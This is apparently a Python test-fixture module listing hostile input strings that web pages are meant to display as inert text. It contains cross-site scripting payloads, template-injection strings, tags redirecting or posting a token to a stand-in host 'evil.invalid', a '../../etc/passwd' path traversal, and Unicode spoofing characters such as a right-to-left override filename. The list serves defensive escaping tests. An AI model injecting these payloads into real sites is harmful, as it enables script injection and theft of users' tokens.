"""Texts as attackers write them. Shown by the pages they must stay text."""

MARKUP = [
    "<script>window.pwned=1</script>",
    '"><img src=x onerror=window.pwned=1>',
    "'><svg onload=window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "javascript:window.pwned=1",
    "data:text/html,<script>window.pwned=1</script>",
    '<a href="javascript:window.pwned=1">a</a>',
    "</title><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "<math><mtext></table><mglyph><style><img src=x onerror=window.pwned=1>",
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}",
    "' onfocus=window.pwned=1 autofocus x='",
    '" style="position:fixed;inset:0" onmouseover="window.pwned=1',
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content=0;url=//evil.invalid/>",
    "<form action=//evil.invalid/><input name=token>",
    "<template shadowrootmode=open><script>window.pwned=1</script></template>",
    "%3Cscript%3Ewindow.pwned=1%3C/script%3E",
    "&lt;img src=x onerror=window.pwned=1&gt;",
    "<!--<script>window.pwned=1</script>-->",
    "<![CDATA[<script>window.pwned=1</script>]]>",
    "__proto__",
    "constructor",
    "toString",
    "../../etc/passwd",
    "..",
    ".",
    "#/live",
    "?token=1&x=%00",
    "%",
    "%zz",
]

UNSEEN = [
    "friendly\u202egnp.exe\u202c",  # right-to-left override
    "\u2066isolated\u2069 \u200bzero\u200dwidth\ufeff",
    "line\rbreak\nand\ttab\0nul\x1b[31mred\x7f",
    "\u05d0\u05d1\u05d2 \u0627\u0644\u0639\u0631\u0628\u064a\u0629 123",
    "Z\u0351\u036b\u0343a\u0363\u0368\u034bl\u0300\u0316g\u0344\u0310o\u034a\u035b" + "\u0300" * 60,
    "\U0001f41d\U0001f36f \U0001f469\u200d\U0001f4bb honey",
    "\ufffd\ufffd\x80\x9f\u00ff",  # bytes that were no UTF-8
    "\u3164\u2800\u115f",  # blanks that are no white space
    "\U000e0041\U000e0042 tags",
    "\ud800 alone",  # half a surrogate pair, from a peer
]

LONG = ["A" * 1024, "word " * 200, "\U0001f41d" * 300, "<b>" * 300]

ALL = MARKUP + UNSEEN + LONG
